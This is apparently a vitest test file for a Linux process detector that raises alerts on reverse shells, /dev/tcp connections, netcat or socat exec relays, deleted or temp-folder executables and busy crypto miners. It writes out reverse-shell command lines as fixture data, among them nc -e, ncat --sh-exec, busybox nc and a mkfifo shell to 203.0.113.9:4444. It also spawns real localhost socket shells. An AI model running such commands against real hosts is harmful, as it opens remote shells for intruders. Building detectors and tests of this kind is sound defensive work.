import { spawn, type ChildProcess } from 'node:child_process';
import { copyFileSync, readlinkSync, symlinkSync, unlinkSync } from 'node:fs';
import { createServer, connect, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { waitForComm } from '../test-support/exec-wait.js';
import { procEntry, removeTree, scratchDirs, writeTree } from '../test-support/tree.js';
import { normalizeEvent } from '../../events/normalize.js';
import type { EcsDocument } from './alert.js';
import { detectSuspiciousProcesses } from './processes.js';

const children: ChildProcess[] = [];
const scratch = scratchDirs('bulwark-proc-', '/tmp');
afterAll(() => {
  for (const c of children) c.kill('SIGKILL');
  scratch.cleanup();
});
const tmp = scratch.make;

function start(cmd: string, args: string[], stdio: Parameters<typeof spawn>[2] extends infer O ? O extends { stdio?: infer S } ? S : never : never = 'ignore'): ChildProcess {
  const child = spawn(cmd, args, { stdio });
  children.push(child);
  return child;
}

const execed = (child: ChildProcess, comm: string) => waitForComm(child.pid, comm);

const get = (doc: EcsDocument, path: string): unknown => path.split('.').reduce<unknown>((o, k) => (o as Record<string, unknown> | undefined)?.[k], doc);
const byRule = (alerts: EcsDocument[], pid: number) => alerts.filter((a) => get(a, 'process.pid') === pid).map((a) => get(a, 'rule.id')).sort();

describe('suspicious processes on this machine (spawned)', () => {
  let server: Server;
  let port = 0;
  const held: Socket[] = [];
  beforeAll(async () => {
    server = createServer((s) => held.push(s.on('error', () => undefined)));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(async () => {
    held.forEach((s) => s.destroy());
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  it('a shell whose stdin/stdout is a TCP socket is a reverse shell (T1059.004), with the peer address', async () => {
    const sock = connect(port, '127.0.0.1');
    await new Promise<void>((resolve) => sock.once('connect', () => resolve()));
    const pid = await execed(start('sh', [], [sock, sock, 'ignore']), 'sh');
    const alerts = await detectSuspiciousProcesses({ host: 'test-host' });
    const alert = alerts.find((a) => get(a, 'process.pid') === pid && get(a, 'rule.id') === 'bulwark.process.reverse-shell');
    expect(alert).toBeDefined();
    expect(get(alert!, 'threat.technique.id')).toBe('T1059.004');
    expect(get(alert!, 'event.kind')).toBe('alert');
    expect(get(alert!, 'destination.port')).toBe(port);
    expect(get(alert!, 'destination.ip')).toBe('127.0.0.1');
    expect(get(alert!, 'host.name')).toBe('test-host');
    expect(get(alert!, 'host.os.platform')).toBe('linux');
    expect(get(alert!, 'host.hostname')).toBeTruthy();
    expect(get(alert!, 'process.parent.pid')).toBe(process.pid);
    sock.destroy();
  });

  it('a shell whose stdin is a pipe from a connected network tool (`socat -u TCP:… - | sh`) is a reverse shell too', async () => {
    const outer = start('sh', ['-c', `socat -u TCP:127.0.0.1:${port} - | sh`]);
    await execed(outer, 'sh');
    let alert: EcsDocument | undefined;
    for (let i = 0; i < 100 && !alert; i++) {
      alert = (await detectSuspiciousProcesses()).find((a) => get(a, 'rule.id') === 'bulwark.process.reverse-shell' && get(a, 'process.parent.pid') === outer.pid);
      if (!alert) await new Promise((r) => setTimeout(r, 50));
    }
    expect(alert).toBeDefined();
    expect(get(alert!, 'bulwark.relay.name')).toBe('socat');
    expect(get(alert!, 'destination.port')).toBe(port);
  });

  it('a binary copied to /tmp, started and deleted: temp-folder execution and deleted executable', async () => {
    const dir = tmp();
    const copy = join(dir, 'sleep');
    copyFileSync('/bin/sleep', copy);
    const child = start(copy, ['60']);
    const pid = await execed(child, 'sleep');
    expect(readlinkSync(`/proc/${pid}/exe`)).toBe(copy);
    unlinkSync(copy);
    const alerts = await detectSuspiciousProcesses();
    expect(byRule(alerts, pid)).toEqual(['bulwark.process.deleted-exe', 'bulwark.process.temp-exec']);
    const deleted = alerts.find((a) => get(a, 'process.pid') === pid && get(a, 'rule.id') === 'bulwark.process.deleted-exe')!;
    expect(get(deleted, 'process.executable')).toBe(copy);
    expect(get(deleted, 'event.severity')).toBe(73);
    expect(get(deleted, 'threat.technique.id')).toBe('T1070.004');
  });

  it('bash opening /dev/tcp/HOST/PORT, and socat wiring a program to a connection', async () => {
    const bash = await execed(start('bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; while :; do sleep 1; done`]), 'bash');
    const socat = await execed(start('socat', [`TCP:127.0.0.1:${port}`, 'EXEC:/bin/cat']), 'socat');
    const alerts = await detectSuspiciousProcesses();
    expect(byRule(alerts, bash)).toEqual(['bulwark.process.dev-tcp']);
    const devTcp = alerts.find((a) => get(a, 'process.pid') === bash)!;
    expect([get(devTcp, 'destination.ip'), get(devTcp, 'destination.port')]).toEqual(['127.0.0.1', port]);
    expect(byRule(alerts, socat)).toEqual(['bulwark.process.netcat-exec']);
    expect(get(alerts.find((a) => get(a, 'process.pid') === socat)!, 'threat.technique.id')).toBe('T1095');
  });

  it('a miner-named process burning CPU is reported (T1496); the same name idle is not', async () => {
    const dir = tmp();
    symlinkSync(process.execPath, join(dir, 'xmrig'));
    symlinkSync('/bin/sleep', join(dir, 'xmrig-idle'));
    const busy = await execed(start(join(dir, 'xmrig'), ['-e', 'for (;;) {}']), 'xmrig');
    const idle = await execed(start(join(dir, 'xmrig-idle'), ['60']), 'xmrig-idle');
    // a low bar (3 ticks of 1/100 s in a second): on a loaded shared machine the busy loop may get a
    // small share of a core, while the idle one gets none
    const alerts = await detectSuspiciousProcesses({ sampleMs: 1000, cpuPercent: 3 });
    expect(byRule(alerts, busy)).toEqual(['bulwark.process.miner']);
    expect(get(alerts.find((a) => get(a, 'process.pid') === busy)!, 'threat.technique.id')).toBe('T1496');
    expect(byRule(alerts, idle)).toEqual([]);
  });
});

describe('suspicious processes from a fixture /proc', () => {
  const HEAD = '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n';
  let root = '';
  beforeAll(() => {
    root = writeTree({
      'proc/sys/kernel/hostname': 'web-07\n',
      'etc/os-release': 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n',
      // 203.0.113.9:4444 established on inode 555; a listening socket on 556
      'proc/net/tcp': `${HEAD}   0: 0200000A:D431 097100CB:115C 01 00000000:00000000 00:00000000 00000000 0 0 555 1\n   1: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000 0 0 556 1\n`,
      ...procEntry(10, { name: 'bash', argv: ['bash', '-i'], exe: '/usr/bin/bash', fds: { 0: 'socket:[555]', 1: 'socket:[555]', 2: 'socket:[555]' } }),
      ...procEntry(11, { name: 'nc', argv: ['nc', '-lvnp', '4444', '-e', '/bin/bash'], exe: '/usr/bin/nc.traditional' }),
      ...procEntry(12, { name: 'ncat', argv: ['ncat', '10.0.0.1', '4444', '--sh-exec', 'bash -i'], exe: '/usr/bin/ncat' }),
      ...procEntry(13, { name: 'busybox', argv: ['busybox', 'nc', '10.0.0.1', '4444', '-e', 'sh'], exe: '/bin/busybox' }),
      ...procEntry(14, { name: 'python3', argv: ['python3', '-c', 'import socket'], exe: '/usr/bin/python3.11', fds: { 0: 'socket:[555]' } }),
      ...procEntry(15, { name: 'kworkerds', argv: ['/memfd:x'], exe: '/memfd:x (deleted)' }),
      ...procEntry(16, { name: 'sshd', argv: ['/usr/sbin/sshd', '-D'], exe: '/usr/sbin/sshd (deleted)' }),
      ...procEntry(17, { name: '.x', argv: ['/dev/shm/.x'], exe: '/dev/shm/.x' }),
      ...procEntry(18, { name: 'perl', argv: ['perl -e use Socket; $p=4444'], exe: '/usr/bin/perl' }),
      // the mkfifo reverse shell: cat f | sh -i 2>&1 | nc 203.0.113.9 4444 > f (nc holds socket 555 on fd 3)
      ...procEntry(30, { name: 'cat', argv: ['cat', '/tmp/f'], exe: '/usr/bin/cat', fds: { 0: '/dev/null', 1: 'pipe:[700]' } }),
      ...procEntry(31, { name: 'sh', argv: ['sh', '-i'], exe: '/usr/bin/dash', fds: { 0: 'pipe:[700]', 1: 'pipe:[701]', 2: 'pipe:[701]' } }),
      ...procEntry(32, { name: 'nc', argv: ['nc', '203.0.113.9', '4444'], exe: '/usr/bin/nc.openbsd', fds: { 0: 'pipe:[701]', 1: '/tmp/f', 3: 'socket:[555]' } }),
      // negatives
      ...procEntry(40, { name: 'curl', argv: ['curl', '-fsSL', 'https://get.example.com'], exe: '/usr/bin/curl', fds: { 1: 'pipe:[800]', 5: 'socket:[555]' } }),
      ...procEntry(41, { name: 'sh', argv: ['sh'], exe: '/usr/bin/dash', fds: { 0: 'pipe:[800]', 1: '/dev/pts/1' } }),
      ...procEntry(42, { name: 'bash', argv: ['bash', 'build.sh'], exe: '/usr/bin/bash', fds: { 0: '/dev/null', 1: 'pipe:[900]' } }),
      ...procEntry(43, { name: 'tee', argv: ['tee', 'log'], exe: '/usr/bin/tee', fds: { 0: 'pipe:[900]' } }),
      ...procEntry(20, { name: 'bash', argv: ['-bash'], exe: '/usr/bin/bash', fds: { 0: '/dev/pts/0', 1: '/dev/pts/0', 2: '/dev/pts/0' } }),
      ...procEntry(21, { name: 'sh', argv: ['/bin/sh', '/usr/lib/svc/run.sh'], exe: '/usr/bin/dash', fds: { 0: '/dev/null', 1: 'socket:[9999]', 2: 'socket:[9999]' } }),
      ...procEntry(22, { name: 'nc', argv: ['nc', '-l', '80'], exe: '/usr/bin/nc.openbsd' }),
      ...procEntry(23, { name: 'nc', argv: ['nc', '-zv', 'db.internal', '5432'], exe: '/usr/bin/nc.openbsd' }),
      ...procEntry(24, { name: 'grep', argv: ['grep', '-r', '/dev/tcp/10.0.0.1/80', '/etc'], exe: '/usr/bin/grep' }),
      ...procEntry(25, { name: 'xmrig', argv: ['./xmrig', '-o', 'stratum+tcp://pool:3333'], exe: '/opt/xmrig/xmrig', cpuTicks: 5000 }),
      ...procEntry(26, { name: 'socat', argv: ['socat', 'TCP-LISTEN:8080,fork', 'TCP:10.0.0.2:80'], exe: '/usr/bin/socat' }),
      ...procEntry(27, { name: 'nginx', argv: ['nginx: worker process'], exe: '/usr/sbin/nginx', fds: { 0: '/dev/null', 3: 'socket:[556]' } }),
    });
  });
  afterAll(() => removeTree(root));

  it('finds each pattern and nothing on the benign processes', async () => {
    const alerts = await detectSuspiciousProcesses({ root, sampleMs: 1, now: () => 1_700_000_000_000 });
    const found = alerts.map((a) => `${String(get(a, 'process.pid'))} ${String(get(a, 'rule.id')).replace('bulwark.process.', '')} ${String(get(a, 'threat.technique.id'))} ${String(get(a, 'event.severity'))}`).sort();
    expect(found).toEqual([
      '10 reverse-shell T1059.004 99',
      '11 netcat-exec T1095 73',
      '12 netcat-exec T1095 73',
      '13 netcat-exec T1095 73',
      '14 reverse-shell T1059.004 99',
      '15 deleted-exe T1620 73',
      '16 deleted-exe T1070.004 21',
      '17 temp-exec T1036 73',
      '31 reverse-shell T1059.004 99',
    ]);
    // every alert is a valid event for the server's store, typed fields included
    for (const [i, a] of alerts.entries()) expect(normalizeEvent(a, i, Date.now())).toMatchObject({ ok: true, event: { fields: { 'event.kind': 'alert', 'process.pid': get(a, 'process.pid'), 'threat.technique.id': get(a, 'threat.technique.id') } } });
    const shell = alerts.find((a) => get(a, 'process.pid') === 10)!;
    expect(shell).toMatchObject({ '@timestamp': '2023-11-14T22:13:20.000Z', host: { name: 'web-07', hostname: 'web-07', os: { platform: 'linux', name: 'Debian GNU/Linux 12 (bookworm)' } }, event: { kind: 'alert', module: 'agent', dataset: 'agent.process' }, destination: { ip: '203.0.113.9', port: 4444 }, source: { ip: '10.0.0.2', port: 54321 }, process: { name: 'bash', executable: '/usr/bin/bash', command_line: 'bash -i' } });
  });
});
